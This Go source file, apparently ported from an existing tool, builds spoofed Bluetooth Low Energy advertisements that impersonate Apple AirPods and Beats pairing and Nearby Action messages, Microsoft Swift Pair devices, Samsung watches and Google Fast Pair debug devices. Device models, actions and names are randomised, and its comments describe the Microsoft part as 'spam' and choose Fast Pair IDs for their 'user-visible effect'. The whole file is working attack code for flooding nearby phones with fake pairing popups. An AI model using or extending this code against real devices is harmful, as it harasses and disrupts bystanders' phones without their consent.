package broadcaster

import (
	cryptorand "crypto/rand"
)

// Apple Continuity message types, original_source's continuity_type_t.
const (
	continuityProximityPair = 0x07
	continuityNearbyAction  = 0x0f
)

// appleDevice pairs a Find My "Proximity Pair" device model with one
// plausible color, grounded on original_source's apple_devices table
// (trimmed to a representative subset).
type appleDevice struct {
	model uint16
	color byte
}

var appleDevices = []appleDevice{
	{model: 0x0e20, color: 0x00}, // AirPods Pro
	{model: 0x0a20, color: 0x02}, // AirPods Max
	{model: 0x0220, color: 0x00}, // AirPods
	{model: 0x0f20, color: 0x00}, // AirPods 2nd Gen
	{model: 0x0620, color: 0x06}, // Beats Solo 3
	{model: 0x0b20, color: 0x04}, // Powerbeats Pro
}

// nearbyActions lists Nearby Action type bytes (without their on-screen
// prompt text), grounded on original_source's nearby_actions table
// (trimmed).
var nearbyActions = []byte{0x13, 0x24, 0x05, 0x27, 0x20, 0x19, 0x09, 0x2f, 0x0b, 0x01}

func randomByte() byte {
	var b [1]byte
	cryptorand.Read(b[:])
	return b[0]
}

func randomBytes(n int) []byte {
	b := make([]byte, n)
	cryptorand.Read(b)
	return b
}

// buildProximityPairMfg builds an Apple "Find My" proximity-pair
// manufacturer-specific payload (company ID 0x004C followed by the
// continuity sub-message), grounded on original_source's preset
// dataAirpods-family advertisement tables: company bytes, continuity
// type 0x07, sub-message length 0x19, a status byte, the device model,
// then 16 bytes that stand in for the encrypted pairing payload.
func buildProximityPairMfg() []byte {
	dev := appleDevices[randomIndex(len(appleDevices))]
	mfg := []byte{0x4c, 0x00, continuityProximityPair, 0x19, 0x01, byte(dev.model), byte(dev.model >> 8), dev.color}
	return append(mfg, randomBytes(16)...)
}

// buildNearbyActionMfg builds an Apple "Nearby Action" manufacturer
// payload, original_source's generate_nearby_action_packet reframed as
// manufacturer-specific data (company ID 0x004C, continuity type 0x0F).
func buildNearbyActionMfg() []byte {
	action := nearbyActions[randomIndex(len(nearbyActions))]
	return []byte{0x4c, 0x00, continuityNearbyAction, 0x03, action, 0x00, 0x00}
}

func randomIndex(n int) int {
	if n <= 0 {
		return 0
	}
	return int(randomByte()) % n
}

// buildMicrosoftMfg builds Microsoft Swift Pair manufacturer data for
// name, original_source's build_microsoft_mfg.
func buildMicrosoftMfg(name string) []byte {
	buf := []byte{0x06, 0x00, 0x03, 0x00, 0x80}
	return append(buf, []byte(name)...)
}

// watchModels are Samsung Galaxy Watch "Watch Style" model bytes,
// original_source's watch_models table (trimmed).
var watchModels = []byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x11, 0x12, 0x17}

// buildSamsungMfg builds Samsung "Watch Style" manufacturer data,
// original_source's build_samsung_mfg.
func buildSamsungMfg() []byte {
	model := watchModels[randomIndex(len(watchModels))]
	return []byte{0x75, 0x00, 0x01, 0x00, 0x02, 0x00, 0x01, 0x01, 0xff, 0x00, 0x00, 0x43, model}
}

// androidModels are Fast Pair debug-popup device IDs, original_source's
// android_models table (trimmed to a few of the "custom debug popup"
// entries, the ones with user-visible effect).
var androidModels = []uint32{0xd99ca1, 0x77ff67, 0xaa187f, 0xdce9ea, 0x1448c9}

// buildGoogleMfg builds a Google Fast Pair manufacturer-data payload,
// original_source's build_google_mfg.
func buildGoogleMfg() []byte {
	id := androidModels[randomIndex(len(androidModels))]
	rssiByte := byte(int(randomByte())%120 - 100)
	return []byte{0xe0, 0x00, 0x00, byte(id >> 16), byte(id >> 8), byte(id), rssiByte}
}

const randomNameAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"

// randomName generates a short ASCII device name for Microsoft Swift
// Pair spam, original_source's generate_random_name.
func randomName(length int) string {
	out := make([]byte, length)
	for i := range out {
		out[i] = randomNameAlphabet[randomIndex(len(randomNameAlphabet))]
	}
	return string(out)
}

// wrapManufacturerData wraps mfg as a single AD structure (length, type
// 0xFF, company-prefixed payload).
func wrapManufacturerData(mfg []byte) []byte {
	return append([]byte{byte(len(mfg) + 1), 0xff}, mfg...)
}
